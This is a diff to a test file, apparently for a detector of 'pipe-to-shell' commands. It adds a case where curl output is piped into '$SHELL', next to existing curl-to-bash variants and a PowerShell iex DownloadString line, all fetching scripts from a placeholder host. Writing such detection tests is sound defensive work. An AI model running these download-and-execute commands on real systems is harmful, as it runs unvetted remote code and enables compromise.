@@ -278,6 +278,7 @@ describe("pipe-to-shell", () => {
     ["curl | sudo -u user bash", "curl -fsSL https://x.example/i.sh | sudo -u deploy -H bash -s"],
     ["curl | env -i sh", "curl -fsSL https://x.example/i.sh | env -i PATH=/bin sh"],
     ["curl | nohup nice -n 5 sh", "curl -fsSL https://x.example/i.sh | nohup nice -n 5 sh"],
+    ['curl | "$SHELL"', 'curl -fsSL https://x.example/i.sh | "$SHELL" -s'],
     [
       "iex ((New-Object Net.WebClient).DownloadString())",
       "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a'))",
